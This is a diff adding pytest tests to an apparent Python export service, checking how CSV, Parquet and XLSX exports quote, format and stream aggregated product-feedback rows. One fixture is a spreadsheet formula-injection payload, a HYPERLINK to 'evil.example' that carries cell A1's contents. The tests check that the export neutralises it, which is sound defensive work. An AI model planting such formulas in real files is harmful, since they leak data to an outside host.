@@ -8,7 +8,7 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from insight_service.services.aggregates.exports import export_stream
+from insight_service.services.aggregates.exports import CHUNK_ROWS, export_stream
 from insight_service.services.aggregates.pain_points import COLUMNS, aggregate_rows
 from tests.services.pain_data import load_pain_points
 
@@ -121,3 +121,73 @@ def test_json_and_parquet_keep_the_text_exact():
     table = pq.read_table(io.BytesIO(b"".join(export_stream(iter(rows), "parquet", HOSTILE_META))))
     assert table.column("product_name").to_pylist() == HOSTILE
     assert table.column("average_sentiment").to_pylist() == [r["average_sentiment"] for r in rows]
+
+
+def _csv_lines(rows) -> list[str]:
+    """The raw data lines of a CSV export (metadata and header dropped), split at LF outside quotes."""
+    raw = b"".join(export_stream(iter(rows), "csv", {})).decode()
+    return [line for line in raw.split("\n")[1:] if line]
+
+
+def test_csv_numbers_are_written_as_they_are_whatever_the_other_rows_hold():
+    """An int column holding a None stays ints (pandas wrote 10.0 then); floats keep their shortest exact form."""
+    rows = [{**hostile_rows()[0], "sku": "A", "buyers": 10, "reporting_buyers": None, "incidence_among_buyers": None,
+             "share_of_product_feedback": 1.0, "average_sentiment": -0.25},
+            {**hostile_rows()[0], "sku": "B", "buyers": None, "reporting_buyers": 7, "incidence_among_buyers": 0.1234,
+             "share_of_product_feedback": None, "average_sentiment": -1e-05}]
+    first, second = _csv_lines(rows)
+    assert first.endswith(',"nl",5,5,1.0,-0.25,10,,,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"") | kapot"')
+    assert ',"nl",5,5,,-1e-05,,7,0.1234,' in second
+    frame = pd.read_csv(io.StringIO("\n".join([",".join(COLUMNS), first, second])))
+    assert frame["average_sentiment"].tolist() == [-0.25, -1e-05] and frame["mentions"].dtype == int
+
+
+def test_csv_missing_is_an_empty_unquoted_field_and_empty_text_is_quoted():
+    """A reader that tells NULL from '' (PostgreSQL COPY ... CSV) reads None back as missing, [] as empty text."""
+    row = {**hostile_rows()[0], "period": None, "category": None, "buyers": None, "quotes": []}
+    [line] = _csv_lines([row])
+    assert line.startswith(",\"'=HYPERLINK(") and line.endswith(',5,5,0.5,-0.25,,3,0.3,""')
+    [record] = csv.reader(io.StringIO(line))
+    assert record[COLUMNS.index("category")] == "" and record[COLUMNS.index("code")] == "defect"
+
+
+def test_csv_quotes_keep_separators_quotes_and_line_breaks_inside_their_cell():
+    quotes = ['lekt, "heel" erg\nna=2 dagen;', "=kapot\r\nweer"]
+    row = {**hostile_rows()[0], "product_name": "Barista", "quotes": quotes}
+    raw = b"".join(export_stream(iter([row]), "csv", {})).decode()
+    [record] = csv.DictReader(io.StringIO(raw, newline=""))
+    # only a cell's start can start a formula: the second quote is inside the joined cell
+    assert record["quotes"] == " | ".join(quotes) and record["product_name"] == "Barista"
+    row["quotes"] = list(reversed(quotes))
+    [record] = csv.DictReader(io.StringIO(b"".join(export_stream(iter([row]), "csv", {})).decode(), newline=""))
+    assert record["quotes"] == "'" + " | ".join(reversed(quotes))
+
+
+def test_csv_header_is_the_same_with_and_without_rows():
+    header = b"".join(export_stream(iter([]), "csv", {})).decode()
+    assert header == ",".join(f'"{c}"' for c in COLUMNS) + "\n"
+    assert b"".join(export_stream(iter(hostile_rows()), "csv", {})).decode().startswith(header)
+
+
+def test_csv_yields_each_chunk_before_reading_the_next():
+    """Memory holds one chunk of rows and its text: the first chunk is out before row CHUNK_ROWS + 2 is read."""
+    taken = []
+
+    def rows():
+        for n in range(2 * CHUNK_ROWS + 1):
+            taken.append(n)
+            yield {**hostile_rows()[0], "mentions": n + 5}
+
+    stream = export_stream(rows(), "csv", META)
+    assert next(stream).startswith(b"# taxonomy_version")
+    first = next(stream)
+    assert len(taken) <= CHUNK_ROWS + 1 and first.count(b"\n") == CHUNK_ROWS + 1  # header + one chunk
+    assert sum(1 for _ in stream) == 2 and len(taken) == 2 * CHUNK_ROWS + 1
+
+
+def test_xlsx_ints_stay_ints_beside_a_missing_value():
+    rows = [{**hostile_rows()[0], "buyers": 10}, {**hostile_rows()[0], "buyers": None, "incidence_among_buyers": None}]
+    sheet = list(openpyxl.load_workbook(io.BytesIO(_bytes(rows, "xlsx")), read_only=True)["pain_points"].values)
+    buyers, incidence = COLUMNS.index("buyers"), COLUMNS.index("incidence_among_buyers")
+    assert [row[buyers] for row in sheet[1:]] == [10, None] and type(sheet[1][buyers]) is int
+    assert sheet[2][incidence] is None and sheet[1][COLUMNS.index("average_sentiment")] == -0.25
